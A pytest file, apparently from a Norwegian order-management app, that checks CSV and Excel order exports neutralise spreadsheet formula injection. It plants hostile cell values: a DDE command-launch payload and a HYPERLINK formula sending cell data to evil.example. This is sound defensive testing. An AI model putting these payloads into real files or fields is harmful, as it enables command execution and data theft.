"""CSV and Excel downloads of orders with hostile texts: every text that starts like a formula
is neutralised, numbers (a negative total too) stay numbers."""

import csv
import io
import re
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest

import axos_data as ax
from axos_data.app import downloads

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
EVIL_TITLE = "=cmd|' /C calc'!A0"
EVIL_CUSTOMER = '=HYPERLINK("http://evil.example/?"&A1;"Se her")'
EVIL_REF = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(con, seeded):
    customer = ax.add_company(con, seeded.admin, name=EVIL_CUSTOMER, country="SE")
    credit = ax.create_order(
        con,
        seeded.admin,
        customer_id=customer,
        title=EVIL_TITLE,
        our_contact_id=seeded.user,
        customer_ref=EVIL_REF,
    )
    ax.add_line(
        con,
        seeded.admin,
        credit,
        description='-Kreditnota; "retur"',
        quantity="1",
        unit="stk",
        unit_price="-1000",
        vat_rate=25,
    )
    plain = ax.create_order(
        con,
        seeded.admin,
        customer_id=seeded.customer,
        title="+ tillegg",
        our_contact_id=seeded.user,
    )
    return {"credit": credit, "plain": plain}


def frame(con):
    return ax.views.export_orders(con, sort="order_no")


def test_csv_download_neutralises_hostile_text_and_keeps_the_negative_total_a_number(con, hostile):
    text = downloads.csv_bytes(frame(con), ax.invoice_methods(con)).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    by_no = {int(r["Ordrenr."]): r for r in rows}
    credit = by_no[hostile["credit"]]
    assert credit["Tittel"] == "'" + EVIL_TITLE
    assert credit["Kunde"] == "'" + EVIL_CUSTOMER
    assert credit["Deres referanse"] == "'" + EVIL_REF
    assert credit["Totalt"] == "-1250,00"  # a number with decimal comma, no quote in front
    assert Decimal(credit["Totalt"].replace(",", ".")) == Decimal("-1250.00")
    assert by_no[hostile["plain"]]["Tittel"] == "'+ tillegg"
    # No cell anywhere in the file starts like a formula.
    for row in rows:
        for heading, value in row.items():
            if heading not in ("Netto", "MVA", "Totalt"):
                assert value[:1] not in "=+-@\t\r" or value == "", (heading, value)


def _sheet(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
        shared = (
            ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            if "xl/sharedStrings.xml" in book.namelist()
            else None
        )
    strings = (
        ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in shared]
        if shared is not None
        else []
    )
    quote_prefixed = [
        xf.get("quotePrefix") == "1" for xf in styles.find("m:cellXfs", NS).findall("m:xf", NS)
    ]
    cells = {}
    for c in sheet.iter(f"{{{NS['m']}}}c"):
        ref, kind = c.get("r"), c.get("t")
        assert c.find("m:f", NS) is None, f"formula in {ref}"
        if kind == "s":
            value = strings[int(c.find("m:v", NS).text)]
        elif kind == "inlineStr":
            value = "".join(t.text or "" for t in c.iter(f"{{{NS['m']}}}t"))
        else:
            value = Decimal(c.find("m:v", NS).text)
        cells[ref] = (kind, value, quote_prefixed[int(c.get("s", "0"))])
    return cells


def test_excel_download_marks_hostile_text_as_text_and_writes_amounts_as_numbers(con, hostile):
    data = downloads.xlsx_bytes(frame(con), ax.invoice_methods(con))
    cells = _sheet(data)
    grid = {}
    for ref, cell in cells.items():
        column, row_no = re.fullmatch(r"([A-Z]+)(\d+)", ref).groups()
        grid.setdefault(int(row_no), {})[column] = cell
    headings = {value: column for column, (_, value, _) in grid[1].items()}
    (row,) = [
        str(number)
        for number, cols in grid.items()
        if cols.get(headings["Ordrenr."], (None, None))[1] == hostile["credit"]
    ]
    title = cells[headings["Tittel"] + row]
    customer = cells[headings["Kunde"] + row]
    total = cells[headings["Totalt"] + row]
    # Text exactly as typed, stored as a string with Excel's quote-prefix (text) mark.
    assert title[1:] == (EVIL_TITLE, True) and title[0] in ("s", "inlineStr", "str")
    assert customer[1:] == (EVIL_CUSTOMER, True)
    assert cells[headings["Deres referanse"] + row][1:] == (EVIL_REF, True)
    assert total == (None, Decimal("-1250"), False)
    ordinary = cells[headings["Status"] + row]
    assert ordinary[1:] == ("Under arbeid", False)
